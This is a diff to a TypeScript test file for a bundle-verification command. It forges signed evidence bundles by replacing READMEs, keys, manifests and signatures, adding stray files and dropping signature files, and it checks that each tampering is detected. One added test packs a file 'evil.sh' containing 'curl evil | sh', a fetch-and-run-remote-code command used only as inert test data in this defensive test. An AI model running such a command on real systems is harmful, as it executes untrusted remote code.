@@ -2,11 +2,11 @@ import { createHash } from 'node:crypto'
 import { mkdtempSync, readFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { beforeEach, expect, test } from 'vitest'
-import { unpackArchive, writeArchive } from '../../harness/evidence/archive.ts'
+import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { type ArchiveFile, unpackArchive, writeArchive } from '../../harness/evidence/archive.ts'
 import { BUNDLE_LIST, type BundleList } from '../../harness/evidence/check-bundle.ts'
 import { toJson } from '../../harness/record/json-file.ts'
-import { newKeyPair, publicHexOf, readPrivateKey } from '../../harness/record/signing/signature.ts'
+import { newKeyPair, publicHexOf, publicPemOf, readPrivateKey } from '../../harness/record/signing/signature.ts'
 import { writeLiveRun } from '../../harness/testing/live-record.ts'
 import type { CommandIo } from '../support/io.ts'
 import { bundle } from './bundle.ts'
@@ -15,7 +15,9 @@ import { verify } from './verify.ts'
 /** A bundle packed again with a correct list of hashes: only the signatures of the runs reveal the edit. */
 const folder = mkdtempSync(join(tmpdir(), 'forged-'))
 const key = readPrivateKey(newKeyPair().privatePem, 'test key')
-const out = join(folder, 'bundle.tar')
+const otherKey = readPrivateKey(newKeyPair().privatePem, 'other key')
+const whole = join(folder, 'whole.tar')
+const out = join(folder, 'forged.tar')
 let printed = ''
 const print = (text: string): void => {
   printed += text
@@ -23,20 +25,29 @@ const print = (text: string): void => {
 const stderr = { isTTY: false, color: false, write: () => true }
 const io: CommandIo = { stdout: print, stderr, env: {}, columns: null, color: false }
 
-beforeEach(async () => {
+beforeAll(async () => {
   const { directory } = await writeLiveRun(mkdtempSync(join(folder, 'results-')), { key })
-  await bundle([directory], { out }, io)
+  await bundle([directory], { out: whole }, io)
+})
+beforeEach(() => {
   printed = ''
 })
 
 type Change = (name: string, bytes: Buffer) => Buffer
 const same: Change = (_, bytes) => bytes
 
-/** Packs the bundle anew with its files changed, and gives the exit code of verify. */
-async function forged(change: Change, list: Partial<BundleList> = {}): Promise<number> {
+/** Packs the bundle anew with its files changed, added and left out, and gives the exit code of verify. */
+async function forged(
+  change: Change,
+  list: Partial<BundleList> = {},
+  added: readonly (ArchiveFile & { readonly source: { readonly bytes: Buffer } })[] = [],
+  isLeftOut: (name: string) => boolean = () => false,
+): Promise<number> {
   const open = mkdtempSync(join(folder, 'open-'))
-  const names = (await unpackArchive(out, open)).map(({ name }) => name).filter((name) => name !== BUNDLE_LIST)
-  const files = names.map((name) => ({ name, source: { bytes: change(name, readFileSync(join(open, name))) } }))
+  const all = (await unpackArchive(whole, open)).map(({ name }) => name)
+  const names = all.filter((name) => name !== BUNDLE_LIST && !isLeftOut(name))
+  const kept = names.map((name) => ({ name, source: { bytes: change(name, readFileSync(join(open, name))) } }))
+  const files = [...kept, ...added]
   const hashes = files.map(({ name, source }) => [name, createHash('sha256').update(source.bytes).digest('hex')])
   const old = JSON.parse(readFileSync(join(open, BUNDLE_LIST), 'utf8')) as BundleList
   const made = toJson({ ...old, files: Object.fromEntries(hashes), ...list })
@@ -63,4 +74,37 @@ test('with edited rows does not verify', async () => {
   const watts = (bytes: Buffer) => Buffer.from(bytes.toString().replaceAll(',340,', ',240,'))
   expect(await forged((name, bytes) => (name.endsWith('/gpu.csv') ? watts(bytes) : bytes))).toBe(1)
   expect(printed).toMatch(/gpu\.csv: was changed/)
+})
+
+describe('files that no signature covers, packed anew with a correct list of hashes', () => {
+  const differs = /differs from the file that joulemark .* signatures cover the runs, not this file/
+  test.each([
+    ['the README', (name: string) => name === 'README.md', 'Certified by NVIDIA'],
+    ['a public key', (name: string) => name.startsWith('keys/'), publicPemOf(publicHexOf(otherKey))],
+    ['a manifest', (name: string) => /^manifests\/.*\.json$/.test(name), '{}'],
+    ['a signature', (name: string) => name.endsWith('.sig'), 'x'.repeat(64)],
+  ])('%s that was replaced is named', async (_, isIt, text) => {
+    let changed = ''
+    const code = await forged((name, bytes) => {
+      if (!isIt(name)) return bytes
+      changed = name
+      return Buffer.from(text)
+    })
+    expect([code, changed]).toEqual([1, expect.stringMatching(/./)])
+    expect(printed).toContain(`${changed}: differs from the file`)
+    expect(printed).toMatch(differs)
+  })
+
+  test.each(['evil.sh', 'README.html', 'keys/another.pem', 'reports/more.html', 'runs.txt'])(
+    'a stranger is refused: %s',
+    async (name) => {
+      expect(await forged(same, {}, [{ name, source: { bytes: Buffer.from('curl evil | sh') } }])).toBe(1)
+      expect(printed).toContain(`${name}: does not belong to a bundle of these runs`)
+    },
+  )
+
+  test('a file that is missing is named', async () => {
+    expect(await forged(same, {}, [], (name) => name.endsWith('.sig'))).toBe(1)
+    expect(printed).toMatch(/manifests\/.*\.sig: is missing from the bundle/)
+  })
 })
